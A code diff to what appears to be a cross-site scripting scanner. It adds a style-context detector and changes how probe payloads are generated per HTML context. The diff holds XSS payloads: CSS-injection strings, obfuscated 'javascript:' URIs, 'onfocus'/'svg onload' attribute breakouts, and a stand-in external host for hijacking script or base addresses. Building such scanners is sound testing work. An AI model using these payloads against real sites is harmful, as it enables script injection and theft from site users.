@@ -23,6 +23,7 @@ const (
 	inHandler               // in the script of an event handler
 	inScript                // in an element script
 	inTag                   // in a tag, outside of values
+	inStyle                 // in a style
 )
 
 // A context is a place.
@@ -53,12 +54,18 @@ func (c context) describe() string {
 		return "in a script"
 	case inTag:
 		return "in a tag"
+	case inStyle:
+		return "in a style"
 	}
 	return "between the tags of the page"
 }
 
 // addressed are attributes that a browser opens, where an address of script runs.
 var addressed = map[string]bool{"href": true, "src": true, "action": true, "formaction": true, "data": true, "xlink:href": true, "srcdoc": false}
+
+// foreign are attributes whose address decides what runs in the page or where its
+// forms go.
+var foreign = map[string]string{"script": "src", "base": "href", "form": "action", "iframe": "src", "embed": "src", "object": "data"}
 
 // rawText are elements whose content is no markup.
 var rawText = map[string]bool{"textarea": true, "title": true, "style": true, "noscript": true, "xmp": true, "iframe": true, "noembed": true, "noframes": true, "plaintext": true}
@@ -92,6 +99,9 @@ func contexts(resp *message.Response, word string) []context {
 				}
 			case rawText[open]:
 				add(context{kind: inRaw, element: open})
+				if open == "style" {
+					add(context{kind: inStyle, element: open})
+				}
 			default:
 				add(context{kind: inText})
 			}
@@ -148,6 +158,9 @@ func inside(raw, element, word string) []context {
 			}
 		default:
 			out = append(out, context{kind: inAttribute, element: element, name: name, quote: quote})
+			if name == "style" {
+				out = append(out, context{kind: inStyle, element: element, name: name, quote: quote})
+			}
 		}
 	}
 }
@@ -292,9 +305,18 @@ func (c context) payloads(word string) []string {
 		return before("</"+c.element+">", tags[:5]...)
 	case inComment:
 		return append(before("-->", tags[:4]...), "--!>"+tags[0])
+	case inStyle:
+		return []string{"x;" + word + ":1;x:x", word + ":1;x", "x{}" + word + "{" + word + ":1}x", "x]{" + word + ":1}x[x", "\"]{" + word + ":1}x[x=\"", "x}" + word + "{" + word + ":1}x{x"}
 	case inAddress:
-		out := []string{"javascript:" + call, "JaVaScRiPt:" + call, "java\tscript:" + call, "javascript://%0a" + call}
-		return append(out, context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)...)
+		leave := context{kind: inAttribute, element: c.element, name: c.name, quote: c.quote}.payloads(word)
+		other := "//" + word + ".example/"
+		switch {
+		case c.element == "script" || c.element == "base":
+			return append([]string{other}, leave...)
+		case foreign[c.element] == c.name:
+			return append([]string{"javascript:" + call, other}, leave...)
+		}
+		return append([]string{"javascript:" + call, "JaVaScRiPt:" + call, "java\tscript:" + call, "javascript://%0a" + call}, leave...)
 	case inAttribute:
 		if q == "" {
 			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">"}
@@ -340,7 +362,7 @@ func (c context) stops(resp *message.Response, word, payload string) bool {
 			return false
 		}
 		special = string(c.quote)
-	case inScript, inHandler:
+	case inScript, inHandler, inStyle:
 		return false
 	}
 	text := resp.Text()
